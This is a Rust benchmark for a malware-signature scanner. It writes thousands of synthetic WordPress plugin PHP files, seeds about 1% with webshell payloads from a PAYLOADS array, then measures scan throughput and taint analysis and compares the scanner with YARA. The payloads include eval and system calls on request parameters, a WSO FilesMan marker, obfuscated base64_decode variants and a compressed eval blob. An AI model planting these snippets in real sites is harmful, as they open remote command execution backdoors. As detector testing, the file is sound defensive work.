//! Throughput of the content-signature scanner over a generated PHP corpus.
//!
//! Writes 10,000 PHP files of 2-40 KiB (realistic, mostly clean WordPress-style code; ~1% with
//! a webshell or obfuscation payload inserted at a random place) and measures `scan_file`
//! over all of them: single thread, two threads, and `scan_bytes` on preloaded buffers; then
//! the PHP taint analysis (`scan::taint::analyze_source`) on the same buffers.
//!
//! `cargo bench --bench signatures -- [--corpus DIR] [--files N] [--iters N]
//!  [--yara-out FILE] [--flagged-out FILE] [--summary FILE]`
//!
//! `--yara-out` writes, as YARA source, exactly the rules svc applies to the corpus's files
//! (the same rule definitions from `rules/signatures/`, filtered by each rule's extensions,
//! file names and path conditions as `SignatureSet` applies them), for
//! `benches/signatures-vs-yara.sh`; `--flagged-out` lists the files svc flags (one path a
//! line, sorted); `--summary` writes `key=value` lines. The corpus is reused when it already
//! exists with the same file count.
//!
//! Scan-only mode, timed from outside like `yara -r`: `-- --scan-dir DIR [--threads N]
//! [--flagged-out FILE]` compiles the shipped rules, walks DIR, scans every file with
//! `scan_file` on N threads (default 1) and writes the flagged files: start, rule compile and
//! walk included, as for YARA.

#![allow(
    clippy::disallowed_methods,
    reason = "test and benchmark fixtures are built with plain std::fs calls, as an attacker would"
)]

use std::path::{Path, PathBuf};
use std::time::Instant;

use svc::scan::signatures::{to_yara, Rule, SignatureSet};

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

const WORDS: &[&str] = &[
    "post", "user", "option", "meta", "cache", "query", "field", "widget", "order", "product",
    "term", "comment", "setting", "template", "image", "gallery", "form", "entry", "report",
    "session", "token", "request", "response", "payment", "shipping", "cart", "feed", "event",
];

fn ident(r: &mut Rng) -> String {
    format!(
        "{}_{}",
        WORDS[r.below(WORDS.len())],
        WORDS[r.below(WORDS.len())]
    )
}

/// One realistic chunk of clean PHP. Several chunks contain words that are also anchors of
/// the rules (exec, system, eval, base64_decode, $_POST, preg_replace, call_user_func ...), so
/// the prefilter lets some clean files through to literal and regex checks, as on real sites.
fn chunk(r: &mut Rng) -> String {
    let a = ident(r);
    let b = ident(r);
    let n = r.below(10_000);
    match r.below(12) {
        0 => format!(
            "/**\n * Returns the {a} for the given {b}.\n *\n * @since 1.{n}.0\n * @param int   $id   The {b} ID.\n * @param array $args Optional arguments.\n * @return array|false The {a} or false on failure.\n */\nfunction prefix_get_{a}( $id, $args = array() ) {{\n\t$defaults = array( 'limit' => {n}, 'orderby' => 'date', 'order' => 'DESC' );\n\t$args     = wp_parse_args( $args, $defaults );\n\t$cached   = wp_cache_get( 'prefix_{a}_' . $id, 'prefix' );\n\tif ( false !== $cached ) {{\n\t\treturn $cached;\n\t}}\n\t$result = get_post_meta( (int) $id, '_prefix_{b}', true );\n\twp_cache_set( 'prefix_{a}_' . $id, $result, 'prefix', HOUR_IN_SECONDS );\n\treturn $result;\n}}\n\n"
        ),
        1 => format!(
            "add_action( 'admin_post_prefix_save_{a}', 'prefix_save_{a}' );\nfunction prefix_save_{a}() {{\n\tif ( ! current_user_can( 'manage_options' ) ) {{\n\t\twp_die( esc_html__( 'You are not allowed to do this.', 'prefix' ) );\n\t}}\n\tcheck_admin_referer( 'prefix_save_{a}' );\n\t$value = isset( $_POST['{b}'] ) ? sanitize_text_field( wp_unslash( $_POST['{b}'] ) ) : '';\n\tupdate_option( 'prefix_{a}', $value );\n\twp_safe_redirect( add_query_arg( 'updated', '1', wp_get_referer() ) );\n\texit;\n}}\n\n"
        ),
        2 => format!(
            "class Prefix_{n}_Repository {{\n\tprivate $wpdb;\n\tprivate $table;\n\n\tpublic function __construct( $wpdb ) {{\n\t\t$this->wpdb  = $wpdb;\n\t\t$this->table = $wpdb->prefix . 'prefix_{a}';\n\t}}\n\n\tpublic function find_by_{b}( $value, $limit = 20 ) {{\n\t\t$sql = $this->wpdb->prepare( \"SELECT * FROM {{$this->table}} WHERE {b} = %s ORDER BY id DESC LIMIT %d\", $value, $limit );\n\t\treturn $this->wpdb->get_results( $sql, ARRAY_A );\n\t}}\n\n\tpublic function execute_batch( array $rows ) {{\n\t\tforeach ( $rows as $row ) {{\n\t\t\t$this->wpdb->insert( $this->table, $row );\n\t\t}}\n\t\treturn count( $rows );\n\t}}\n}}\n\n"
        ),
        3 => format!(
            "?>\n<div class=\"prefix-{a} wrap\">\n\t<h2><?php echo esc_html( get_the_title() ); ?></h2>\n\t<?php if ( have_posts() ) : ?>\n\t\t<ul class=\"prefix-list\">\n\t\t<?php while ( have_posts() ) : the_post(); ?>\n\t\t\t<li id=\"item-<?php the_ID(); ?>\"><a href=\"<?php the_permalink(); ?>\"><?php the_title(); ?></a></li>\n\t\t<?php endwhile; ?>\n\t\t</ul>\n\t<?php endif; ?>\n\t<form method=\"post\" action=\"<?php echo esc_url( admin_url( 'admin-post.php' ) ); ?>\">\n\t\t<input type=\"hidden\" name=\"action\" value=\"prefix_save_{b}\">\n\t\t<?php wp_nonce_field( 'prefix_save_{b}' ); ?>\n\t</form>\n</div>\n<?php\n"
        ),
        4 => format!(
            "function prefix_decode_{a}( $payload ) {{\n\t// Tokens are base64-encoded JSON signed with HMAC.\n\t$raw = base64_decode( $payload, true );\n\tif ( false === $raw ) {{\n\t\treturn new WP_Error( 'prefix_bad_token', __( 'Invalid token.', 'prefix' ) );\n\t}}\n\t$data = json_decode( $raw, true );\n\tassert( is_array( $data ) );\n\treturn hash_equals( hash_hmac( 'sha256', $data['body'], AUTH_SALT ), $data['sig'] ) ? $data : null;\n}}\n\n"
        ),
        5 => format!(
            "function prefix_render_{a}( $image_id ) {{\n\t$file = get_attached_file( $image_id );\n\t// Use the system convert binary when Imagick is missing.\n\t$cmd = 'convert ' . escapeshellarg( $file ) . ' -resize {n}x{n} ' . escapeshellarg( $file . '.thumb.jpg' );\n\texec( $cmd, $output, $status );\n\treturn 0 === $status;\n}}\n\n"
        ),
        6 => format!(
            "$prefix_{a}_labels = array(\n\t'name'               => _x( '{a}s', 'post type general name', 'prefix' ),\n\t'singular_name'      => _x( '{a}', 'post type singular name', 'prefix' ),\n\t'add_new_item'       => __( 'Add New {a}', 'prefix' ),\n\t'edit_item'          => __( 'Edit {a}', 'prefix' ),\n\t'search_items'       => __( 'Search {b}', 'prefix' ),\n\t'not_found'          => __( 'No {b} found.', 'prefix' ),\n\t'menu_position'      => {n},\n);\nregister_post_type( 'prefix_{a}', array( 'labels' => $prefix_{a}_labels, 'public' => true, 'has_archive' => true ) );\n\n"
        ),
        7 => format!(
            "function prefix_clean_{a}( $text ) {{\n\t$text = preg_replace( '/\\s+/u', ' ', $text );\n\t$text = preg_replace( '#<script[^>]*>.*?</script>#is', '', $text );\n\t$text = preg_replace_callback( '/\\[{b}=(\\d+)\\]/', function ( $m ) {{ return prefix_get_{b}( (int) $m[1] ); }}, $text );\n\treturn trim( $text );\n}}\n\n"
        ),
        8 => format!(
            "function prefix_apply_{a}_filters( $items ) {{\n\t$items = array_map( 'absint', (array) $items );\n\t$items = array_filter( $items, function ( $id ) {{ return $id > {n}; }} );\n\tusort( $items, 'prefix_compare_{b}' );\n\treturn call_user_func( apply_filters( 'prefix_{a}_callback', 'prefix_default_{b}' ), $items );\n}}\n\n"
        ),
        9 => format!(
            "/*\n * Evaluate the {a} rules and assert the {b} constraints before saving.\n * The scheduler executes these hourly via wp-cron; see docs/{a}.md for the system design.\n */\nif ( ! wp_next_scheduled( 'prefix_{a}_cron' ) ) {{\n\twp_schedule_event( time() + {n}, 'hourly', 'prefix_{a}_cron' );\n}}\nadd_action( 'prefix_{a}_cron', array( 'Prefix_{n}_Repository', 'execute_batch' ) );\n\n"
        ),
        10 => format!(
            "function prefix_rest_{a}( WP_REST_Request $request ) {{\n\t$page     = max( 1, (int) $request->get_param( 'page' ) );\n\t$per_page = min( 100, (int) $request->get_param( 'per_page' ) );\n\t$search   = sanitize_text_field( $_GET['s'] ?? '' );\n\t$query    = new WP_Query( array( 'post_type' => 'prefix_{b}', 'paged' => $page, 'posts_per_page' => $per_page, 's' => $search ) );\n\treturn rest_ensure_response( wp_list_pluck( $query->posts, 'post_title' ) );\n}}\n\n"
        ),
        _ => format!(
            "function prefix_send_{a}_notice( $user_id ) {{\n\t$user    = get_userdata( $user_id );\n\t$subject = sprintf( __( '[%s] Your {a} was updated', 'prefix' ), get_bloginfo( 'name' ) );\n\t$message = sprintf( __( 'Hello %1$s, your {b} #%2$d changed.', 'prefix' ), $user->display_name, {n} );\n\twp_mail( $user->user_email, $subject, $message );\n}}\n\n"
        ),
    }
}

const PAYLOADS: &[&str] = &[
    "@eval($_POST['pass']);\n",
    "if (isset($_GET['cmd'])) { system($_GET['cmd']); }\n",
    "eval(gzinflate(base64_decode('7b1rc9s4sij8Xb8C5VI1KY0sS7IT56Xj2UnsZMcz8SSbON59J1FhKAqSuOYtJGhbs5P+9m8DJHUjdaGUzM7uDe2qJsy0C+tlPAu6+VFlmGGZaS7YKWBTxhdvjXqEuEx1WwtMAsOtNQbEEGg7fvs1fExPxgTgFMI+LBjPqdHazFGqzNKY73RnWh3vc6lKdMPVxz1dyKpC5EyHwbMdnVoz2RsdmsNKAcqW3D97+3x8+xPQe2E9ijpcTd+dg3+IW9+v9MmgNxYeLdmhLLOiHNlbE6VmDWWKHWqzaPCu2VfKZNtSvnVdc7ZkuSbd6qVl52pVtWcp5uXlKZX2/7kklk5eXSlaVFbK+TGSnlc/DLKcX5p3muy9ZxVdIxpNjKstu4Exo5aB6lyE0Ax7kxv2uZp+j7OWSAlNuXkWxGB5lRsRm9WEudRYC0nRcjH/HxeZbSkVMOvfNaMvTTwZ8NlZs+N4WLKH4EczDtVcWJs4IIzxN8o+lpEFHyxNP3cYdqO2uNv/r/92/9WP+s/VP9f4F/cFwAnFKHmq1fGOPY/LfnLEwEpNaKJbTKE+1YaITeyv3S0VWFyi6pnW0ha1aBdlLBa0nxHhqtiyAh8/jmYdv/QyZXkt6r2ULEf9+aQY9MK5mBiNpedRB4ptPdJDQqj2XPaUOGyMthsXQ0vH7W00afYO9Fqy/6Q+rvBFN+6/fbx/cOfTsy8+uO/Pfvvf/zZ3/8vLvxLJSA73bs//XfW/+Id//k//ltv/Ptbf//63z/+D8bK+h+hvpkPN1Yr4tjubj0c+9xz54Ajn3RjHc+qnl2+Eixj86uNvFyuWzbePz6/qzhfX7kU/0M97KdhVmAV2L/P7ICU6fTQkjD0qzKx3y16vyqLqgaKRDMVaqa6vmGg3yLQhrR0Me0cUvDeS6qdwjV68C5Nof+ftHU86Kej68LPd+Le3yt9NNL+fIbY37bE6dzcw/8FrfIAD'))); \n",
    "$auth_pass = '63a9f0ea7bb98050796b649e85481845'; $default_action = 'FilesMan'; @define('WSO_VERSION', '2.5');\n",
    "$f = \"\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65\"; $g = $f($_COOKIE['p']);\n",
    "$e = chr(101).chr(118).chr(97).chr(108).chr(40).chr(36).chr(95).chr(80);\n",
    "$x = str_rot13('onfr64_qrpbqr'); $y = $x('ZWNobyAxOw==');\n",
    "$_REQUEST['a']($_REQUEST['b']);\n",
    "preg_replace('/.*/e', $_REQUEST['c'], '');\n",
    "file_put_contents($_GET['n'], base64_decode($_POST['d']));\n",
];

struct Corpus {
    files: Vec<PathBuf>,
    bytes: u64,
    malicious: usize,
}

fn write_corpus(dir: &Path, count: usize) -> std::io::Result<Corpus> {
    let marker = dir.join(".corpus-done");
    let want = format!("v1 files={count}\n");
    let fresh = std::fs::read_to_string(&marker).ok().as_deref() != Some(want.as_str());
    if fresh {
        let _ = std::fs::remove_dir_all(dir);
    }
    let mut r = Rng(0x5EED_1234_ABCD_9876);
    let mut files = Vec::with_capacity(count);
    let mut bytes = 0u64;
    let mut malicious = 0;
    for i in 0..count {
        let site = i / 100;
        let path = dir.join(format!(
            "site-{site:03}/wp-content/plugins/plugin-{:02}/includes/{}-{i}.php",
            (i / 10) % 10,
            ident(&mut r).replace('_', "-")
        ));
        let target = 2048 + r.below(38 * 1024);
        let mut text = String::from("<?php\n/**\n * Plugin component.\n *\n * @package Prefix\n */\n\nif ( ! defined( 'ABSPATH' ) ) {\n\texit;\n}\n\n");
        while text.len() < target {
            text.push_str(&chunk(&mut r));
        }
        let bad = i % 100 == 37;
        if bad {
            malicious += 1;
            let payload = PAYLOADS[(i / 100) % PAYLOADS.len()];
            // Insert at a chunk boundary somewhere in the file.
            let at = text
                .get(text.len() / 3..)
                .and_then(|rest| rest.find("\n\n"))
                .map(|p| text.len() / 3 + p + 2)
                .unwrap_or(text.len());
            text.insert_str(at, payload);
        }
        bytes += text.len() as u64;
        if fresh {
            if let Some(p) = path.parent() {
                std::fs::create_dir_all(p)?;
            }
            std::fs::write(&path, &text)?;
        }
        files.push(path);
    }
    if fresh {
        std::fs::write(&marker, want)?;
    }
    Ok(Corpus {
        files,
        bytes,
        malicious,
    })
}

fn arg(args: &[String], name: &str) -> Option<String> {
    args.iter()
        .position(|a| a == name)
        .and_then(|i| args.get(i + 1).cloned())
}

fn mbps(bytes: u64, secs: f64) -> f64 {
    bytes as f64 / secs.max(1e-9) / 1e6
}

/// Whether `rule` applies to the file at `path`: the same test as `SignatureSet`'s own
/// (extension or file name, then path conditions). Checked against `applies_to` below.
fn rule_applies(rule: &Rule, path: &Path) -> bool {
    use std::os::unix::ffi::OsStrExt;
    let bytes = path.as_os_str().as_bytes();
    let name = path
        .file_name()
        .map(|n| n.as_bytes().to_ascii_lowercase())
        .unwrap_or_default();
    let ext: &[u8] = match name.iter().rposition(|&b| b == b'.') {
        Some(0) | None => b"",
        Some(i) => &name[i + 1..],
    };
    let contains = |hay: &[u8], needle: &str| {
        let n = needle.as_bytes();
        !n.is_empty() && hay.windows(n.len()).any(|w| w == n)
    };
    let type_ok = rule
        .extensions
        .iter()
        .any(|e| e == "*" || (!ext.is_empty() && e.as_bytes() == ext))
        || rule
            .file_names
            .iter()
            .any(|n| n.as_bytes() == name.as_slice());
    type_ok
        && (rule.path_contains.is_empty() || rule.path_contains.iter().any(|p| contains(bytes, p)))
        && !rule.path_excludes.iter().any(|p| contains(bytes, p))
}

/// Every regular file under `dir`, sorted.
fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            match e.file_type() {
                Ok(t) if t.is_dir() => stack.push(e.path()),
                Ok(t) if t.is_file() => out.push(e.path()),
                _ => {}
            }
        }
    }
    out.sort();
    out
}

/// Scan-only mode (see the module documentation): what a process scanning a tree does.
fn scan_dir(args: &[String], dir: &Path) {
    let threads: usize = arg(args, "--threads")
        .and_then(|v| v.parse().ok())
        .unwrap_or(1)
        .max(1);
    let set = SignatureSet::shipped().expect("shipped rules are valid");
    let files = walk(dir);
    let chunk = files.len().div_ceil(threads).max(1);
    let mut flagged: Vec<PathBuf> = std::thread::scope(|s| {
        let handles: Vec<_> = files
            .chunks(chunk)
            .map(|part| {
                let set = &set;
                s.spawn(move || {
                    part.iter()
                        .filter(|f| set.scan_file(f).map(|m| !m.is_empty()).unwrap_or(false))
                        .cloned()
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().unwrap_or_default())
            .collect()
    });
    flagged.sort();
    if let Some(out) = arg(args, "--flagged-out") {
        let text: String = flagged
            .iter()
            .map(|p| format!("{}\n", p.display()))
            .collect();
        std::fs::write(out, text).expect("write flagged list");
    }
    println!("scanned {} files, flagged {}", files.len(), flagged.len());
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if let Some(dir) = arg(&args, "--scan-dir") {
        scan_dir(&args, Path::new(&dir));
        return;
    }
    let corpus_dir = arg(&args, "--corpus")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_TARGET_TMPDIR")).join("signatures-corpus"));
    let count: usize = arg(&args, "--files")
        .and_then(|v| v.parse().ok())
        .unwrap_or(10_000);
    let iters: usize = arg(&args, "--iters")
        .and_then(|v| v.parse().ok())
        .unwrap_or(3)
        .max(1);

    let set = SignatureSet::shipped().expect("shipped rules are valid");

    let t = Instant::now();
    let corpus = write_corpus(&corpus_dir, count).expect("write corpus");
    // The rules svc applies to the corpus's files: the same set for every file of this
    // corpus (one file type, one path shape), which one YARA rule file can express.
    let pattern =
        |f: &PathBuf| -> Vec<bool> { set.rules().iter().map(|r| rule_applies(r, f)).collect() };
    let first = corpus.files.first().map(pattern).unwrap_or_default();
    let applied: Vec<&Rule> = set
        .rules()
        .iter()
        .zip(&first)
        .filter(|(_, a)| **a)
        .map(|(r, _)| r)
        .collect();
    // Same rules for every file, and the same answer as the scanner's own test.
    let uniform = corpus
        .files
        .iter()
        .all(|f| pattern(f) == first && set.applies_to(f) != applied.is_empty());
    if !uniform {
        println!("NOTE: rules do not apply uniformly to the corpus; the YARA file holds those of the first file");
    }
    println!(
        "rules: {} shipped, {} applied by svc to the corpus's files ({})",
        set.rules().len(),
        applied.len(),
        applied
            .iter()
            .map(|r| r.id.as_str())
            .collect::<Vec<_>>()
            .join(" ")
    );
    if let Some(y) = arg(&args, "--yara-out") {
        let rules: Vec<Rule> = applied.iter().map(|r| (*r).clone()).collect();
        std::fs::write(&y, to_yara(&rules)).expect("write YARA rules");
    }
    println!(
        "corpus: {} files, {:.1} MB, {} with payloads, in {} ({:.1}s to prepare)",
        corpus.files.len(),
        corpus.bytes as f64 / 1e6,
        corpus.malicious,
        corpus_dir.display(),
        t.elapsed().as_secs_f64()
    );

    // Warm the page cache (both tools are then measured on cached files).
    for f in &corpus.files {
        let _ = std::fs::read(f);
    }

    let scan_all = |files: &[PathBuf]| -> usize {
        files
            .iter()
            .filter(|f| set.scan_file(f).map(|m| !m.is_empty()).unwrap_or(false))
            .count()
    };
    if let Some(out) = arg(&args, "--flagged-out") {
        let mut flagged: Vec<&PathBuf> = corpus
            .files
            .iter()
            .filter(|f| set.scan_file(f).map(|m| !m.is_empty()).unwrap_or(false))
            .collect();
        flagged.sort();
        let text: String = flagged
            .iter()
            .map(|p| format!("{}\n", p.display()))
            .collect();
        std::fs::write(out, text).expect("write flagged list");
    }

    let mut runs = Vec::new();
    let mut flagged = 0;
    for _ in 0..iters {
        let t = Instant::now();
        flagged = scan_all(&corpus.files);
        runs.push(t.elapsed().as_secs_f64());
    }
    runs.sort_by(|a, b| a.total_cmp(b));
    let best = runs[0];
    let median = runs[runs.len() / 2];

    let t = Instant::now();
    let half = corpus.files.len() / 2;
    let (a, b) = corpus.files.split_at(half);
    let flagged2 = std::thread::scope(|s| {
        let h = s.spawn(|| scan_all(a));
        let x = scan_all(b);
        x + h.join().unwrap_or(0)
    });
    let two = t.elapsed().as_secs_f64();

    let bufs: Vec<(PathBuf, Vec<u8>)> = corpus
        .files
        .iter()
        .map(|f| (f.clone(), std::fs::read(f).unwrap_or_default()))
        .collect();
    let t = Instant::now();
    let mem_flagged = bufs
        .iter()
        .filter(|(p, d)| !set.scan_bytes(p, d).is_empty())
        .count();
    let mem = t.elapsed().as_secs_f64();

    // The PHP taint analysis (issue 28) over the same buffers, best of `iters`.
    let mut taint_best = f64::MAX;
    let mut taint_flagged = 0;
    for _ in 0..iters {
        let t = Instant::now();
        taint_flagged = bufs
            .iter()
            .filter(|(_, d)| !svc::scan::taint::analyze_source(d).flows.is_empty())
            .count();
        taint_best = taint_best.min(t.elapsed().as_secs_f64());
    }

    // What opening a file costs, side by side: a plain open (what scan_file did before,
    // following any symlink) and sys::dir (no user symlink on the way, regular files only).
    let open_cost = |safe: bool| -> f64 {
        use std::os::unix::fs::OpenOptionsExt;
        let mut best = f64::MAX;
        for _ in 0..iters {
            let t = Instant::now();
            for f in &corpus.files {
                let file = if safe {
                    svc::sys::dir::open_regular_trusted(f, false).map_err(std::io::Error::from)
                } else {
                    std::fs::OpenOptions::new()
                        .read(true)
                        .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY | libc::O_NOATIME)
                        .open(f)
                };
                let _ = file.and_then(|f| f.metadata());
            }
            best = best.min(t.elapsed().as_secs_f64());
        }
        best * 1e6 / corpus.files.len().max(1) as f64
    };
    let (plain_us, safe_us) = (open_cost(false), open_cost(true));

    let st = set.stats();
    println!(
        "open + fstat per file: plain open {plain_us:.1} us, sys::dir {safe_us:.1} us (scan_file in all: {:.1} us)",
        best * 1e6 / corpus.files.len().max(1) as f64
    );
    println!(
        "scan_file 1 thread : best {:.3}s = {:.0} MB/s ({:.0} files/s), median {:.0} MB/s, flagged {} of {} payload files",
        best,
        mbps(corpus.bytes, best),
        corpus.files.len() as f64 / best,
        mbps(corpus.bytes, median),
        flagged,
        corpus.malicious
    );
    println!(
        "scan_file 2 threads: {:.3}s = {:.0} MB/s, flagged {}",
        two,
        mbps(corpus.bytes, two),
        flagged2
    );
    println!(
        "scan_bytes (in memory, 1 thread): {:.3}s = {:.0} MB/s, flagged {}",
        mem,
        mbps(corpus.bytes, mem),
        mem_flagged
    );
    println!(
        "taint analysis (in memory, 1 thread): {:.3}s = {:.0} files/s = {:.0} MB/s, files with a flow {}",
        taint_best,
        bufs.len() as f64 / taint_best,
        mbps(corpus.bytes, taint_best),
        taint_flagged
    );
    println!(
        "regex runs per file: {:.2}",
        st.regex_runs as f64 / st.files_scanned.max(1) as f64
    );
    if let Some(s) = arg(&args, "--summary") {
        let text = format!(
            "files={}\nrules_shipped={}\nrules_applied={}\nbytes={}\nmalicious={}\nflagged={}\nbest_secs={best:.6}\nmbps_1t={:.1}\nmbps_2t={:.1}\nmbps_mem={:.1}\n",
            corpus.files.len(),
            set.rules().len(),
            applied.len(),
            corpus.bytes,
            corpus.malicious,
            flagged,
            mbps(corpus.bytes, best),
            mbps(corpus.bytes, two),
            mbps(corpus.bytes, mem)
        );
        std::fs::write(s, text).expect("write summary");
    }
}
